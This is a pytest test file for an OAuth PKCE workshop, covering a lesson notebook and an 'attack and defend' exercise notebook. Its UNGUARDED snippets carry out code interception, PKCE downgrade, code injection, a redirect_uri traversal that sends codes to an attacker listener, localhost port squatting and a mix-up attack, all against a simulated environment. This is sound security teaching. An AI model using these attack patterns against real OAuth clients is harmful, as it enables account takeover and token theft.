"""The two notebooks of the workshop with nobody there, run by the fixtures that users have for theirs."""

from __future__ import annotations

import ast
import re
from dataclasses import replace
from pathlib import Path
from textwrap import indent
from typing import TYPE_CHECKING

import nbformat
import pytest

from lexoffice_nb.texts import use_language
from lexoffice_nb.workshop.checks import NUMBERS, Tick, judge
from lexoffice_nb.workshop.scene import Exercise
from lexoffice_nb.workshop.workshop import Hint, Solution, Verdict
from lexoffice_nb.workshop.world import State, World

if TYPE_CHECKING:
    from collections.abc import Callable

    from nbformat import NotebookNode

    from lexoffice_nb.testing import NotebookRunner

pytest_plugins = ["lexoffice_nb.testing"]
pytestmark = pytest.mark.timeout(240)

NOTEBOOKS = Path(__file__).parents[2] / "notebooks"
LESSON = NOTEBOOKS / "10_pkce_step_by_step.ipynb"
EXERCISES = NOTEBOOKS / "11_attack_and_defend.ipynb"
TO_WRITE_IN = range(2, 11)


# As a newcomer writes them by hint 3: nothing in them expects a defence.
EXCHANGE = """
def exchange(e, **form):
    form = {"grant_type": "authorization_code", "client_id": e.client_id} | form
    tokens = requests.post(e.issuer + "/connect/token", data=form).json()
    bearer = {"Authorization": "Bearer " + tokens["access_token"]}
    requests.get(e.issuer + "/v1/profile", headers=bearer)
"""
UNGUARDED = {
    2: """
link = requests.get(e.app + "/login", allow_redirects=False).headers["Location"]
query = [(name, value) for name, value in parse_qsl(urlsplit(link).query) if not name.startswith("code_challenge")]
e.victim.opens(link.split("?")[0] + "?" + urlencode(query))
exchange(e, code=e.leaks()["callback_url"]["code"], redirect_uri=e.app + "/callback")
""",
    3: """
e.victim.signs_in()
verifier = e.leaks()["authorization_url"]["code_challenge"]
code = e.leaks()["callback_url"]["code"]
exchange(e, code=code, redirect_uri=e.app + "/callback", code_verifier=verifier)
""",
    4: """
link = requests.get(e.app + "/login", allow_redirects=False).headers["Location"]
e.victim.opens(e.attacker.sign_in(link))
e.victim.uses_app()
""",
    5: """
e.victim.signs_in()
stolen = e.leaks()["callback_url"]
mine = requests.Session()
location = mine.get(e.app + "/login", allow_redirects=False).headers["Location"]
state = parse_qs(urlsplit(location).query)["state"][0]
mine.get(e.app + "/callback", params={"code": stolen["code"], "state": state, "iss": e.issuer})
mine.get(e.app + "/me").raise_for_status()
""",
    6: """
e.victim.signs_in()
exchange(e, code=e.leaks()["callback_url"]["code"], redirect_uri=e.app + "/callback")
e.victim.uses_app()
""",
    7: """
listener = e.attacker.listen()
redirect_uri = e.app + "/callback/../go?to=" + quote(listener.url, safe="")
asked = {"response_type": "code", "client_id": e.client_id, "redirect_uri": redirect_uri}
e.victim.opens(e.issuer + "/connect/authorize?" + urlencode(asked))
exchange(e, code=listener.wait(2)["code"], redirect_uri=redirect_uri)
""",
    8: """
port = urlsplit(e.app).port
listener = e.attacker.listen("::1", port)
e.victim.signs_in()
exchange(e, code=listener.wait(5)["code"], redirect_uri=f"http://localhost:{port}/callback")
""",
    9: """
requests.post(e.second + "/operator", json={"forward_to": e.issuer + "/connect/authorize"})
e.victim.opens(e.app + "/login?server=second")
got = e.leaks()["token_request"]
exchange(e, code=got["code"], code_verifier=got["code_verifier"], redirect_uri=got["redirect_uri"])
""",
}
# Where it ends with the defence on. 4 and 10 come to their last line.
ENDS = {
    **dict.fromkeys((3, 6), 'bearer = {"Authorization": "Bearer " + tokens["access_token"]}\n→ KeyError'),
    2: "Nothing of the kind callback_url has leaked.",
    5: 'mine.get(e.app + "/me").raise_for_status()\n→ HTTPError',
    7: "Nothing came to the listener at http://127.0.0.1:",
    8: "is taken: Belegheft listens there already.",
    9: "Nothing of the kind token_request has leaked.",
}


def read(path: Path) -> NotebookNode:
    return nbformat.read(path, as_version=4)


def with_cells(folder: Path, source: Callable[[int], str]) -> Path:
    """The exercises, with something in the cells that a learner writes in."""
    notebook = read(EXERCISES)
    cells = {cell.id: cell for cell in notebook.cells}
    for number in TO_WRITE_IN:
        cells[f"attack-{number:02}"].source = source(number)
    path = folder / "exercises.ipynb"
    nbformat.write(notebook, path)
    return path


def test_the_lesson_runs_from_top_to_bottom_and_ends_with_the_diagram_of_the_sign_in(
    lexoffice_notebook: NotebookRunner,
) -> None:
    run = lexoffice_notebook(LESSON)
    assert "The lesson on PKCE" in run.cells[0]
    assert run.cells[1] == "'E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM'"  # RFC 7636 appendix B
    assert "code_challenge_method  S256" in run.text
    assert "StateMismatch at the stage callback" in run.text
    assert "CallbackError at the stage callback:\nThis answer belongs to the attempt" in run.text
    assert "Muster & Söhne GmbH" in run.text
    assert run.cells[-2] == "[]"
    shown = [output.data for output in run.notebook.cells[-2].outputs]
    assert any("<svg" in each.get("text/html", "") for each in shown)
    assert "/connect/token" in run.cells[-1]


def test_the_exercises_run_from_top_to_bottom_as_they_are_and_say_what_is_missing(
    lexoffice_notebook: NotebookRunner,
) -> None:
    run = lexoffice_notebook(EXERCISES)
    assert run.text.count("Solved:") == 1, "the first one is worked through"
    assert run.text.count("Still missing:") >= len(TO_WRITE_IN)
    assert run.cells[-1].count("defence off: done, defence on: done") == 1


def test_the_exercises_run_also_where_the_cells_to_write_in_are_quite_empty(
    lexoffice_notebook: NotebookRunner, tmp_path: Path
) -> None:
    run = lexoffice_notebook(with_cells(tmp_path, lambda _: ""))
    assert run.cells[-1].count("defence off: done, defence on: done") == 1


@pytest.mark.soak
def test_with_the_model_solutions_in_its_cells_the_notebook_says_that_all_ten_are_solved(
    lexoffice_notebook: NotebookRunner, tmp_path: Path
) -> None:
    path = with_cells(tmp_path, lambda number: f"{Solution(number).code}\n\nattack(e)")
    run = lexoffice_notebook(path, seconds=90)
    assert run.solved == set(NUMBERS)
    assert run.cells[-1].count("defence off: done, defence on: done") == len(NUMBERS)


def code_of_hint(number: int, language: str) -> str:
    return "\n".join(block.code for block in hint(number, language)._blocks() if block.code)


def hint(number: int, language: str) -> Hint:
    use_language(language)
    return Hint(number, 3)


def test_attacks_that_expect_no_defence_end_in_one_line_with_it_on_and_all_ten_are_solved(
    lexoffice_notebook: NotebookRunner, tmp_path: Path
) -> None:
    def source(number: int) -> str:
        body = UNGUARDED[number] if number in UNGUARDED else code_of_hint(number, "en")  # the last one needs no more
        return f"{EXCHANGE}\n\ndef attack(e):\n{indent(body.strip(), '    ')}\n\n\nattack(e)"

    path = with_cells(tmp_path, source)
    run = lexoffice_notebook(path, seconds=90)
    ended = {number: cell for number in TO_WRITE_IN for cell in run.cells if f"Exercise {number}: what" in cell}
    assert run.solved == set(NUMBERS), [cell for number, cell in ended.items() if number not in run.solved]
    for number, cell in ended.items():
        assert ("Your attack ended here:" in cell) == (number in ENDS), cell
        assert ENDS.get(number, "") in cell


def test_an_attack_that_fails_with_the_defence_off_or_by_a_mistake_of_ones_own_has_its_traceback(
    lexoffice_notebook: NotebookRunner, tmp_path: Path
) -> None:
    begin = "from lexoffice_nb import workshop"
    cells = ["with workshop.exercise(2) as e:\n    e.leaks()['x']", "with workshop.defence(2) as e:\n    of_my_own"]
    notebook = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(each) for each in (begin, *cells)])
    nbformat.write(notebook, tmp_path / "mine.ipynb")
    run = lexoffice_notebook(tmp_path / "mine.ipynb", keep_going=True)
    assert [said.split(":")[0] for said in run.failures] == [
        "cell 2 failed with WorkshopError",
        "cell 3 failed with NameError",
    ]


@pytest.mark.parametrize("language", ["en", "de"])
@pytest.mark.parametrize("number", NUMBERS)
def test_the_code_of_a_last_hint_can_be_copied_as_it_stands_and_words_are_not_set_as_code(
    number: int, language: str
) -> None:
    code = code_of_hint(number, language)
    ast.parse(code if number != 3 else "{" + code + "}")  # a member of a form
    assert "#" not in code
    for block in hint(number, language)._blocks():
        assert block.code in repr(hint(number, language))
        assert not (block.text and block.code)
        assert not re.search(r"^\w+ = ", block.text)


def test_a_check_says_first_in_bold_and_with_a_coloured_mark_whether_it_is_solved() -> None:
    use_language("en")
    halves = [judge(1, False, []), judge(1, True, None)]
    done = [replace(half, begun=True, ticks=tuple(Tick(tick.key, True) for tick in half.ticks)) for half in halves]
    missing, half, solved = Verdict(1, *halves), Verdict(1, done[0], halves[1]), Verdict(1, *done)
    assert repr(missing).startswith("[ ] Still missing: Erika began a sign-in at Belegheft\n")
    assert repr(half).startswith("[ ] Half of it is done: with the defence off the attack succeeds.\n")
    assert repr(solved).startswith("[x] Solved: with the defence off the attack succeeds, with it on it fails.\n")
    for verdict, mark, said in ((missing, "○", "Still missing"), (solved, "✓", "Solved")):
        html = verdict._repr_html_()
        first = html[html.index("<p ") : html.index("</p>")]
        assert "font-weight:700" in first
        assert re.search(f"color:var\\(--jp-[a-z0-9-]+,#[0-9a-f]{{6}}\\)'>{mark}</span> {said}", first), first
        assert repr(verdict).count(said) == 1
    for colour in re.findall(r",(#[0-9a-f]{6})\)'>[✓○]", missing._repr_html_() + solved._repr_html_()):
        for page in ("#ffffff", "#212121"):
            assert contrast(colour, page) >= 3, (colour, page)  # WCAG 1.4.11; its words have the colour of all text


def contrast(one: str, other: str) -> float:
    """As WCAG 2.2 defines it."""

    def light(colour: str) -> float:
        parts = [int(colour[at : at + 2], 16) / 255 for at in (1, 3, 5)]
        red, green, blue = (each / 12.92 if each <= 0.04045 else ((each + 0.055) / 1.055) ** 2.4 for each in parts)
        return 0.2126 * red + 0.7152 * green + 0.0722 * blue

    darker, lighter = sorted((light(one), light(other)))
    return (lighter + 0.05) / (darker + 0.05)


@pytest.mark.parametrize(("language", "word"), [("en", "section"), ("de", "Abschnitt")])
def test_where_to_read_is_said_in_the_persons_language_and_exercise_9_says_how_erika_chooses(
    language: str, word: str
) -> None:
    use_language(language)
    urls = [f"http://127.0.0.1:{port}" for port in (1, 2, 3)]
    shown = repr(Exercise(World(Path("unused")), State(9, False, *urls, "lexoffice-nb", 1, 1)))
    assert f"RFC 9700, {word} 4.4" in shown
    assert "/login?server=second" in shown


@pytest.mark.parametrize("path", [LESSON, EXERCISES], ids=lambda path: path.name)
def test_it_is_kept_without_outputs(path: Path) -> None:
    notebook = read(path)
    nbformat.validate(notebook)
    code = [cell for cell in notebook.cells if cell.cell_type == "code"]
    assert [(cell.outputs, cell.execution_count) for cell in code] == [([], None)] * len(code)
    assert "widgets" not in notebook.metadata


@pytest.mark.parametrize("path", [LESSON, EXERCISES], ids=lambda path: path.name)
def test_its_links_lead_to_files_of_the_project(path: Path) -> None:
    for cell in read(path).cells:
        if cell.cell_type == "markdown":
            for link in re.findall(r"\]\(([^)#]+)\)", cell.source):
                assert link.startswith("https://") or (path.parent / link).exists(), link
